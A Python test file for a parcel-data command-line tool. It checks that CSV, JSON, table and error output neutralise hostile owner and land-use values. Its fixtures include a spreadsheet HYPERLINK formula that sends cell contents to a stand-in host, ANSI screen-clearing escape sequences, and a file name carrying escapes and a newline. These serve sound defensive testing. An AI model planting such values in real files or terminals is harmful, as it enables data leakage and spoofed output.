"""Hostile values from a parcel file stay inert in CSV, tables and the terminal."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import ingest_fixtures as fx
import pandas as pd
import pytest

from geo.cli import main
from geo.export import csv_bytes

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
ESCAPE = "\x1b[2J\x1b[31mCITY OF SACRAMENTO\x1b[0m"


@pytest.fixture
def hostile(tmp_path: Path) -> str:
    """The five fixture parcels, one owner a formula, one full of terminal escapes."""
    frame = fx.county_frame()
    frame.loc[4, "NAME"] = FORMULA
    frame.loc[3, "NAME"] = ESCAPE
    frame.loc[0, "LANDUSE"] = "-G1"
    return str(fx.write_gpkg(frame, tmp_path / "hostile.gpkg"))


def run(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    """Run ``civicmap`` in-process and return what it printed (status 0 required)."""
    status = main([*args, "--owner-names"] if args[0] in ("check", "values") else list(args))
    out, err = capsys.readouterr()
    assert status == 0, err
    return out


def test_check_csv_is_inert(capsys: pytest.CaptureFixture[str], hostile: str) -> None:
    out = run(capsys, "check", hostile, "--format", "csv")
    assert "\x1b" not in out
    rows = {r["apn"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["006-0010-005-0000"]["owner"] == "'" + FORMULA
    assert rows["006-0010-004-0000"]["owner"] == "[2J[31mCITY OF SACRAMENTO[0m"
    assert rows["006-0010-001-0000"]["land_use"] == "'-G1"
    assert all(not r[c].startswith(("=", "+", "-", "@")) for r in rows.values() for c in r)
    assert float(rows["006-0010-005-0000"]["distance_to_landmark_m"]) > 0


def test_check_json_keeps_the_values(capsys: pytest.CaptureFixture[str], hostile: str) -> None:
    out = run(capsys, "check", hostile, "--format", "json")
    assert "\x1b" not in out  # JSON escapes it as \u001b
    owners = {r["apn"]: r["owner"] for r in json.loads(out)}
    assert owners["006-0010-005-0000"] == FORMULA
    assert owners["006-0010-004-0000"] == ESCAPE


def test_check_table_shows_escapes(capsys: pytest.CaptureFixture[str], hostile: str) -> None:
    out = run(capsys, "check", hostile, "--format", "table")
    assert "\x1b" not in out
    assert "\\x1b[2J" in out


def test_values_table_and_csv(capsys: pytest.CaptureFixture[str], hostile: str) -> None:
    table = run(capsys, "values", hostile, "NAME")
    assert "\x1b" not in table and "\\x1b[31m" in table
    rows = list(
        csv.DictReader(io.StringIO(run(capsys, "values", hostile, "NAME", "--format", "csv")))
    )
    assert "'" + FORMULA in [r["value"] for r in rows]
    assert all("\x1b" not in r["value"] for r in rows)


def test_csv_bytes_neutralises_formulas_not_numbers() -> None:
    table = pd.DataFrame({"owner": [FORMULA, "@SUM(A1)", "ok"], "distance_m": [-5.5, 0.0, 2.0]})
    text = csv_bytes(table).decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text))
    assert back["owner"].tolist() == ["'" + FORMULA, "'@SUM(A1)", "ok"]
    assert back["distance_m"].tolist() == [-5.5, 0.0, 2.0]


def test_error_lines_are_one_inert_line(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    missing = tmp_path / "no\x1b[31mfile\nhere.zip"
    assert main(["check", str(missing)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and err.count("\n") == 1
    assert "\x1b" not in err and "\\x1b[31m" in err and "\\n" in err
